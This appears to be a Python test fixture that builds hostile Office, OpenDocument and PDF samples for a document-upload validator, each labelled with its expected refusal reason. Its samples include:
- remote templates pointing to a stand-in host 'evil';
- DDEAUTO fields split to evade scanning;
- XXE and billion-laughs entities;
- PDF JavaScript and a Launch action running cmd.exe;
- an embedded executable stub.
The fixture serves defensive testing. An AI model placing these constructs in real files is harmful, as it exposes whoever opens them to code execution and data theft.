"""Hostile Office, OpenDocument and PDF files, each with the expected reason of its refusal."""

import zlib

from tests.portal.documents.build import (
    OLE,
    XXE,
    archive,
    docx,
    encrypted_pdf,
    hidden_pdf,
    object_stream,
    odt,
    pdf,
    relations,
    stream,
    types,
)


def split_field():
    """DDEAUTO cut in three runs, as malicious builders do."""
    runs = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DDE", "AU", "TO c")
    )
    return docx(body=f"<w:p>{runs}</w:p>")


def vba():
    return docx(
        ("word/vbaProject.bin", OLE),
        content_types=types(
            main="application/vnd.ms-word.document.macroEnabled.main+xml",
            more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
    )


def odd_filter():
    return (lambda data: zlib.compress(data).hex().encode() + b">", "[/ASCIIHexDecode/FlateDecode]")


OFFICE = {
    "macro docx": ("cr.docx", vba(), "macros"),
    "macro by type": (
        "cr.docx",
        docx(content_types=types(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        "macros",
    ),
    "excel 4 macro": (
        "c.xlsx",
        archive(
            [
                ("[Content_Types].xml", types("spreadsheetml.sheet")),
                ("xl/macrosheets/sheet1.xml", "<a/>"),
            ]
        ),
        "macros",
    ),
    "remote template": (
        "cr.docx",
        docx(
            (
                "word/_rels/settings.xml.rels",
                relations("attachedTemplate", "http://evil/t.dotm"),
            )
        ),
        "outside_link",
    ),
    "remote ole": (
        "cr.docx",
        docx(("word/_rels/document.xml.rels", relations("oleObject", "http://evil/a.rtf"))),
        "outside_link",
    ),
    "remote frame": (
        "cr.docx",
        docx(("word/_rels/w.xml.rels", relations("frame", "\\\\evil\\a", " external "))),
        "outside_link",
    ),
    "embedded ole": (
        "cr.docx",
        docx(("word/embeddings/oleObject1.bin", OLE)),
        "embedded_object",
    ),
    "ole under another name": ("cr.docx", docx(("word/media/a.emf", OLE)), "embedded_object"),
    "xxe docx": ("cr.docx", docx(prolog=XXE), "declared_entities"),
    "xxe in a part without extension": (
        "cr.docx",
        docx(("customXml/item", XXE + "<d/>")),
        "declared_entities",
    ),
    "xxe in utf-16": (
        "cr.docx",
        docx(
            (
                "customXml/item1.xml",
                (XXE.replace("?>", ' encoding="utf-16"?>', 1) + "<d/>").encode("utf-16"),
            )
        ),
        "declared_entities",
    ),
    "billion laughs": (
        "cr.docx",
        docx(
            (
                "customXml/item1.xml",
                '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>',
            )
        ),
        "declared_entities",
    ),
    "dde field": ("cr.docx", split_field(), "live_field"),
    "dde in excel": (
        "c.xlsx",
        archive(
            [
                ("[Content_Types].xml", types("spreadsheetml.sheet")),
                ("xl/externalLinks/externalLink1.xml", '<e><ddeLink ddeService="cmd"/></e>'),
            ]
        ),
        "live_field",
    ),
    "basic in odt": ("cr.odt", odt(("Basic/Standard/Module1.xml", "<a/>")), "macros"),
    "python in odt": ("cr.odt", odt(("Scripts/python/a.py", "import os")), "macros"),
    "odt event": (
        "cr.odt",
        odt(content="<a xmlns:x='l' x:href='vnd.sun.star.script:a.py$b?language=Python'/>"),
        "live_field",
    ),
    "odt ole": ("cr.odt", odt(content="<a xmlns:d='d'><d:object-ole/></a>"), "embedded_object"),
    "odt frame": (
        "cr.odt",
        odt(content="<a xmlns:d='d'><d:floating-frame/></a>"),
        "outside_link",
    ),
    "locked odt": ("cr.odt", odt(manifest="<m:encryption-data/>"), "protected"),
}

SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
ATTACHED = stream(b"x", "/Type/EmbeddedFile")
PDF = {
    "pdf javascript": (
        "cr.pdf",
        pdf(catalog="/OpenAction 4 0 R", objects=[SCRIPT]),
        "pdf_script",
    ),
    "pdf js alone": ("cr.pdf", pdf(objects=["<</JS 5 0 R>>", "(a)"]), "pdf_script"),
    "pdf escaped name": ("cr.pdf", pdf(objects=["<</S/J#61vaScript>>"]), "pdf_script"),
    "pdf name in an address": ("cr.pdf", pdf(objects=["<</://S/JavaScript>>"]), "pdf_script"),
    "pdf compressed javascript": ("cr.pdf", hidden_pdf(SCRIPT), "pdf_script"),
    "pdf odd filter": ("cr.pdf", hidden_pdf(SCRIPT, *odd_filter()), "pdf_script"),
    "pdf unlisted object stream": (
        "cr.pdf",
        pdf(objects=[object_stream(SCRIPT)]),
        "pdf_script",
    ),
    "pdf launch": ("cr.pdf", pdf(objects=["<</S/Launch/F(cmd.exe)>>"]), "pdf_launch"),
    "pdf embedded file": ("cr.pdf", pdf(objects=[ATTACHED]), "pdf_attachment"),
    "pdf nameless attachment": (
        "cr.pdf",
        pdf(objects=["<</F(a.exe)/EF<</F 5 0 R>>>>", stream(b"MZ")]),
        "pdf_attachment",
    ),
    "pdf rich media": ("cr.pdf", pdf(objects=["<</Subtype/RichMedia>>"]), "pdf_media"),
    "pdf xfa": ("cr.pdf", pdf(catalog="/AcroForm<</XFA 4 0 R>>", objects=["[]"]), "pdf_form"),
    "pdf opens an address": (
        "cr.pdf",
        pdf(catalog="/OpenAction 4 0 R", objects=["<</S/URI/URI(http://evil/)>>"]),
        "pdf_opening",
    ),
    "pdf opens an address second": (
        "cr.pdf",
        pdf(
            catalog="/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R]>>",
            objects=["<</S/URI/URI(http://evil/)>>"],
        ),
        "pdf_opening",
    ),
    "pdf encrypted": ("cr.pdf", encrypted_pdf(), "protected"),
    "pdf truncated": ("cr.pdf", pdf()[:-60], "damaged"),
    "pdf without page": ("cr.pdf", pdf().replace(b"/Count 1", b"/Count 0"), "damaged"),
    "pdf header alone": ("cr.pdf", b"%PDF-1.7\n", "damaged"),
}
